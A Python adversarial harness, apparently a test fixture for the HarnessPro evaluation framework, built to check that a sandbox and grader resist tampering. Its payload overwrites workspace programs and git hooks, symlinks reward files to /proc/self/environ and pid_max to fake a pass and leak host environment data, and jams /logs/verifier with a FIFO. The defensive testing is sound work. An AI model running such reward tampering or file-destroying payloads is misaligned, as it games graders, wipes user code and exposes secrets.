"""A second adversarial harness: it solves nothing and attacks what the grader reads on the
host after the sandbox is gone. HarnessPro's tests run it on every task: it must score 0,
leak nothing of the host, and never turn its failure into an infrastructure error.

- reward links: every program, Python module and git hook in the workspace, and every path
  under the working directory that the instruction names (the program it asks for), becomes a
  payload
  that, when the verifier runs it, replaces `/logs/verifier/reward.txt` with a symbolic link
  to `/proc/sys/kernel/pid_max` (a number above 1 that the task's own `echo 0 >` cannot
  overwrite) and `reward.json` with one to `/proc/self/environ` (or to the file named by
  `HP_CANARY_FILE` when the harness runs with it): a grader that follows links passes the
  task and copies host data into the rollout's evidence;
- /logs attacks during the rollout: `/logs/verifier` replaced by a FIFO (a grader that opens
  it blocks forever), by a file, or by a link, so that preparing the verifier's folder fails;
- a trajectory.jsonl in the output folder that is a link to `/proc/self/environ`.

result.json lists which of the /logs attacks the sandbox let through.
"""

from __future__ import annotations

import json
import os
import re
import shlex
import stat
from pathlib import Path

CANARY = os.environ.get("HP_CANARY_FILE", "/proc/self/environ")
PAYLOAD = f"""#!/usr/bin/env python3
import os
for name, target in (("reward.txt", "/proc/sys/kernel/pid_max"), ("reward.json", {CANARY!r})):
    path = os.path.join("/logs/verifier", name)
    try:
        os.unlink(path)
    except OSError:
        pass
    try:
        os.symlink(target, path)
    except OSError:
        pass
"""
SHELL_PAYLOAD = f"#!/bin/sh\npython3 -c {shlex.quote(PAYLOAD.split(chr(10), 1)[1])} 2>/dev/null\n"
HOOKS = ("pre-commit", "post-commit", "pre-push", "post-checkout", "post-merge", "commit-msg")


def write(path: Path, text: str) -> None:
    try:
        if path.is_symlink() or path.is_dir():
            return
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
        path.chmod(path.stat().st_mode | stat.S_IXUSR | stat.S_IXGRP | stat.S_IXOTH)
    except OSError:
        pass


def plant(work: Path, instruction: str) -> None:
    """Every program, module and git hook the verifier might run becomes the payload."""
    for named in re.findall(r"(/[\w./-]*\w)", instruction):
        path = Path(named)
        if path.is_relative_to(work) and path != work and not path.exists():
            write(path, PAYLOAD if path.suffix == ".py" else SHELL_PAYLOAD)
    for path in list(work.rglob("*")):
        if not path.is_file() or path.is_symlink():
            continue
        if path.suffix == ".py":
            write(path, PAYLOAD)
        elif path.suffix == ".sh" or os.access(path, os.X_OK):
            write(path, SHELL_PAYLOAD)
    for git in [p for p in work.rglob(".git") if p.is_dir()]:
        for hook in HOOKS:
            write(git / "hooks" / hook, SHELL_PAYLOAD)


def attack_logs() -> list[str]:
    """Try to make /logs/verifier unusable; the attacks that worked."""
    worked = []
    target = "/logs/verifier"
    for name, make in (
        ("fifo", lambda: os.mkfifo(target)),
        ("file", lambda: Path(target).write_text("not a folder")),
        ("link", lambda: os.symlink("/proc/self", target)),
    ):
        try:
            if os.path.lexists(target):
                os.rename(target, f"{target}.{name}.old")
            make()
            worked.append(name)
        except OSError:
            pass
    return worked


def main() -> None:
    task = json.loads(Path(os.environ["HARNESSPRO_TASK"]).read_text())
    plant(Path(task.get("workdir") or os.getcwd()), task.get("instruction", ""))
    worked = attack_logs()
    out = Path(os.environ["HARNESSPRO_OUT"])
    os.symlink("/proc/self/environ", out / "trajectory.jsonl")
    (out / "result.json").write_text(json.dumps({"status": "submitted", "logs_attacks": worked}))


if __name__ == "__main__":
    main()
